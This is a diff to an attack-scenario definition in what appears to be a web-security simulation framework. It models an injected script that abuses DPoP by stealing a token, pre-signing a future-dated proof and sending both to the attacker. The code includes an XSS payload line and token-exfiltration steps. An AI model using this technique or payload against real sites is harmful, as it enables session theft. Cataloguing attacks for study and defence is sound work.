@@ -12,19 +12,19 @@ const attack: AttackUnit = {
   group: 'script in the page',
   label: 'Proofs made ahead',
   also: ['DPoP', 'pre-generated proof', 'XSS', 'proof of possession'],
-  says: 'A script in the page can’t export the page’s key, but it can use it. It catches a token, signs a proof with a date five minutes ahead, and sends both home. The attacker uses them then.',
+  says: 'A script in the page can’t export the page’s key, but it can use it. It catches a token, signs a proof dated five minutes ahead, and sends both home. The attacker uses them five minutes later.',
   grants: ['markup in a page of the shop'],
   sources: [rfc(9449, '11.2'), rfc(10017, '5.1.3')],
   scene: ['log-in', 'read-orders'],
   presupposes: { defences: ['dpop'] },
-  assumes: ['The shop asks for no nonce in proofs.', 'The token is fresh: it outlives the five minutes.'],
+  assumes: ['The shop requires no nonce in proofs.', 'The token is fresh: it outlives the five minutes.'],
   play: async (hands) => {
     const page = await hands.inject('<img src="x" onerror="sign()">');
     if (!page) return;
     const caught = await hookFetch(hands, page);
     const token = caught.find(({ type }) => type === 'token')?.value;
     if (token === undefined)
-      return hands.note('The page’s code hands over no token that a proof could go with.');
+      return hands.note('The page’s code passes no token to fetch, so a proof is useless.');
     const ahead = await page.prepareAhead('GET', '/orders', bearerFields(token), LATER);
     await page.sendHome(JSON.stringify(ahead));
     hands.wait(LATER);
